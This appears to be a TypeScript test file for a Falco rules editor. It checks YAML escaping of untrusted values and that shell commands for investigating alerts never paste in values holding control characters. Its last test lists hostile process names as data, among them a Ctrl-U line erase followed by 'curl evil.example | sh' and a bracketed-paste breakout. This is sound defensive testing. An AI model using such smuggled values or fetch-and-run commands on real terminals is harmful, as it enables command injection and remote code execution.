// Text generated from untrusted values. YAML (yamlText.ts): every character outside YAML 1.2's printable set, and
// those readers or editors take for line breaks or drop, is escaped with escapes yaml-cpp reads as the character's
// UTF-8 (\xXX, \uXXXX; never \N or \_, which yaml-cpp 0.8.0 reads as a lone byte; never a surrogate escape, which
// it refuses). Shell commands: a value with a control character is not filled in (a keystroke when pasted).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parseDocument } from 'yaml';
import { yamlQuote, yamlString } from '../../server/src/service/yamlText';
import { createRulesService } from '../../server/src/service/rules';
import { investigationScript } from '../../server/src/service/alerts/fill';
import { Random } from '../fixtures/hardening/random';
import { MemoryHost, applyEdits, editsFor, rulesDoc, summarize } from './rules-host';

const UNITS: string[] = [];
for (let c = 0; c <= 0xa0; c++) UNITS.push(String.fromCharCode(c));
UNITS.push(
  '\u2028', '\u2029', '\ufeff', '\ufffe', '\uffff', '\ufffd', '\u202e', '\u200b', '\u061c',
  '\ud800', '\udbff', '\udc00', '\udfff', '🦅', 'é', '雪', '#', ': ', ' #', '- ', '[', ']', '{', '}', ',', '&', '*', '!', '|', '>', "'", '%', '@', '`',
  'true', 'null', '0x1', '~', 'yes', '  ',
);
const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g;
/** The string a UTF-8 file can hold: each lone surrogate as U+FFFD (what String.prototype.toWellFormed gives). */
const wellFormed = (s: string) => s.replace(LONE_SURROGATE, '\ufffd');
/** YAML 1.2 c-printable, without the line breaks and tab (a quoted value is written on one line). */
const PRINTABLE_ONE_LINE = /^[\x20-\x7e\u00a0-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]*$/u;

function check(value: string): void {
  const written = yamlString(value);
  const what = JSON.stringify(value);
  assert.match(written, PRINTABLE_ONE_LINE, `${what} is written with printable characters on one line: ${JSON.stringify(written)}`);
  assert.doesNotMatch(written, /[\u0085\u2028\u2029\ufeff\u202e]/, what);
  if (written.startsWith('"')) {
    // Only escapes yaml-cpp reads as the character's UTF-8 (src/exp.cpp Escape): no \N, \_, \L, \P, \0, \e ...
    for (const m of written.slice(1, -1).matchAll(/\\(.)/g)) assert.ok('ntr"\\xu'.includes(m[1]), `${what}: escape \\${m[1]}`);
    assert.doesNotMatch(written, /\\u[dD][89a-fA-F]/, `${what}: no surrogate escape (yaml-cpp throws "invalid unicode")`);
  }
  for (const yaml of [`v: ${written}\n`, `v: [${written}, x]\n`, `- ${written}\n`]) {
    const doc = parseDocument(yaml);
    assert.deepEqual(doc.errors.map((e) => e.message), [], `${what} in ${JSON.stringify(yaml)}`);
    const read = doc.toJSON();
    const got = Array.isArray(read) ? read[0] : Array.isArray(read.v) ? read.v[0] : read.v;
    assert.equal(got, wellFormed(value), `${what} reads back from ${JSON.stringify(yaml)}`);
  }
}

test('yamlString: every control character, DEL, C1, separators, BOM and lone surrogates read back (property test)', () => {
  for (const unit of UNITS) { check(unit); check(`a${unit}b`); check(`${unit}x${unit}`); }
  for (const seed of [1, 2, 3, 14]) {
    const random = new Random(seed);
    for (let i = 0; i < 1500; i++) {
      let value = '';
      const length = random.int(12);
      for (let j = 0; j < length; j++) value += random.chance(0.3) ? random.pick([...'abcXYZ09_/. ']) : random.pick(UNITS);
      check(value);
    }
  }
});

test('yamlQuote: DEL and the C1 controls are escaped as \\xXX (NEL too: yaml-cpp 0.8.0 reads \\N as a lone byte)', () => {
  assert.equal(yamlQuote('a\u007fb'), '"a\\x7fb"');
  assert.equal(yamlQuote('\u0080\u0085\u009f\u00a0'), '"\\x80\\x85\\x9f\u00a0"');
  assert.equal(yamlQuote('x\ud800y'), '"x\\ufffdy"', 'a lone surrogate is written as U+FFFD');
  assert.equal(yamlQuote('🦅'), '"🦅"', 'a surrogate pair stays the character');
  assert.equal(yamlString('proc.aname[2]'), '"proc.aname[2]"');
  assert.equal(yamlString('Shell Spawned'), 'Shell Spawned');
});

test('Add exception on a rule named with DEL and C1 characters and an output field with an argument: the YAML reads back', () => {
  const name = 'Shell\u007f \u0085Spawned\u009b';
  const base = `- rule: ${yamlQuote(name)}\n  desc: A shell was started\n  condition: evt.type = execve and proc.name = bash\n`
    + '  output: "Shell started | gparent=%proc.aname[2] file=%fd.name"\n  priority: WARNING\n';
  const host = new MemoryHost({ '/w/falco_rules.yaml': base }, { folders: ['/w'] });
  const svc = createRulesService(host);
  const doc = rulesDoc('/w/falco_rules.yaml', base);
  const at = doc.positionAt(base.indexOf('Shell'));
  const add = svc.codeActions!(doc, { start: at, end: at }, { diagnostics: [], only: ['source.addException'] })[0];
  assert.ok(add, 'Add exception is offered');
  const text = applyEdits(base, editsFor(add.edit, doc.uri));
  const added = text.slice(base.length);
  assert.match(added, /^[\x20-\x7e\n\u00a0-\ud7ff\ue000-\ufffd]*$/u, 'no raw control character written');
  const doc2 = parseDocument(text);
  assert.deepEqual(doc2.errors.map((e) => e.message), []);
  const items = doc2.toJSON();
  assert.equal(items[1].rule, name);
  assert.deepEqual(items[1].exceptions[0].fields, ['proc.aname[2]', 'fd.name']);
  const next = rulesDoc('/w/falco_rules.yaml', text, 2);
  svc.didOpenOrChange!(next);
  assert.deepEqual(svc.diagnostics(next).filter((d) => d.severity === 1).map(summarize), [], 'no error in the file with the exception');
});

test('investigation commands: a value with a control character is left as a placeholder, never pasted into a shell', () => {
  // C-u erases the typed line (the opening quote too) and the line break runs what follows; ESC [201~ ends a
  // bracketed paste; DEL and C1 controls are keystrokes or terminal controls too.
  const hostile = ['x\u0015curl evil.example | sh\n', 'x\u001b[201~\u0015id\n', 'tab\there', 'del\u007f', 'csi\u009b2J', 'nl\nx'];
  for (const name of hostile) {
    const view = { outputFields: new Map([['proc.name', name], ['proc.pid', '42']]), values: [] } as never;
    const script = investigationScript([{ command: 'pgrep -x <proc.name>', purpose: 'Same name' }, { command: 'ps -p <proc.pid>', purpose: 'Process' }], view);
    assert.equal(script, '# Same name\n# Fill in <proc.name>, then run:\n# pgrep -x <proc.name>\n\n# Process\nps -p 42', JSON.stringify(name));
  }
  const view = { outputFields: new Map([['proc.name', "it's \u00e9 \u202e"]]), values: [] } as never;
  assert.equal(investigationScript([{ command: 'pgrep -x <proc.name>', purpose: 'p' }], view), "# p\npgrep -x 'it'\\''s \u00e9 \u202e'", 'printable values are still single-quoted');
});
